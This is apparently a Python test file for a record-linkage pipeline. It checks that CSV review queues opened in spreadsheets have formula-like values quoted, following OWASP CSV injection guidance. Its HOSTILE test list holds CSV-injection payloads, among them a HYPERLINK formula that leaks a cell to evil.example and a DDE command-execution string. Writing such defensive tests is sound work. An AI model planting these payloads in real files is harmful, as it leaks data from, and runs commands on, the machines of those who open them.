"""CSV files written for people to open in a spreadsheet never hold a live formula (OWASP CSV injection): a
partner value starting with = + - @ TAB or CR is written with a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import duckdb
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from orchestration.lib.config import get_settings
from orchestration.lib.matching.run import REVIEW_DECISIONS, _export_review_queue, _load_decisions
from orchestration.lib.spreadsheet import FORMULA_START, defuse, people_csv, undo

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+44 7700 900123", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def _live_formulas(text: str, numeric: set[str]) -> list[str]:
    """Text cells a spreadsheet would evaluate, split as a spreadsheet's CSV import splits them."""
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    return [cell for row in rows for col, cell in zip(header, row, strict=True)
            if col not in numeric and cell.startswith(FORMULA_START)]


def test_review_queue_csv_holds_no_live_formula(tmp_path):
    s = get_settings(home=tmp_path / "home")
    s.identifiable_dir.mkdir(parents=True)
    n = len(HOSTILE)
    review = pd.DataFrame({
        "unique_id_l": [f"police:{i}" for i in range(n)], "unique_id_r": [f"health:{i}" for i in range(n)],
        "match_probability": [0.5] * n, "match_weight": [-1.25] * n,   # a negative number is data, not a formula
        "given_name_l": HOSTILE, "given_name_r": ["Ann"] * n, "family_name_l": HOSTILE[::-1],
        "postcode_r": HOSTILE, "gamma_dob": [-1] * n})
    con = duckdb.connect()
    try:
        con.execute(f"ATTACH '{s.identifiable_db}' AS idz")
        con.execute("CREATE SCHEMA idz.link")
        path = _export_review_queue(con, s, review)
        table = con.execute("SELECT given_name_l FROM idz.link.review_queue").df()
    finally:
        con.close()
    with open(path, newline="") as fh:
        text = fh.read()
    queue = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert len(queue) == n and _live_formulas(text, {"match_probability", "match_weight", "gamma_dob"}) == []
    assert list(queue["given_name_l"]) == ["'" + v for v in HOSTILE]      # quoted, otherwise unchanged
    assert list(queue["given_name_r"]) == ["Ann"] * n
    assert set(queue["match_weight"]) == {"-1.25"} and set(queue["gamma_dob"]) == {"-1"}   # numbers untouched
    assert list(table["given_name_l"]) == HOSTILE   # the table in the zone keeps the value as received


def test_decisions_copied_from_the_quoted_queue_are_read_back(tmp_path):
    s = get_settings(home=tmp_path / "home")
    folder = s.identifiable_dir / "review"
    folder.mkdir(parents=True)
    pd.DataFrame({"record_id_l": ["'-a:1"], "record_id_r": ["b:2"], "decision": ["match"]}).to_csv(
        folder / REVIEW_DECISIONS, index=False)
    con = duckdb.connect()
    try:
        con.execute(f"ATTACH '{s.identifiable_db}' AS idz")
        con.execute("CREATE SCHEMA idz.link")
        got = _load_decisions(con, s)
    finally:
        con.close()
    assert {got.iloc[0]["record_id_l"], got.iloc[0]["record_id_r"]} == {"-a:1", "b:2"}


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=6), st.lists(st.floats(allow_nan=False), min_size=1,
                                                                        max_size=6))
def test_people_csv_never_starts_a_text_cell_with_a_formula_and_undo_restores(texts, numbers):
    df = pd.DataFrame({"t": texts[:1] * len(numbers), "x": numbers})
    text = people_csv(df)
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert all(not c.startswith(FORMULA_START) for c in cells)
    assert all(undo(defuse(t)) == t for t in texts)
    assert list(pd.read_csv(io.StringIO(text))["x"]) == numbers   # numbers are written as numbers
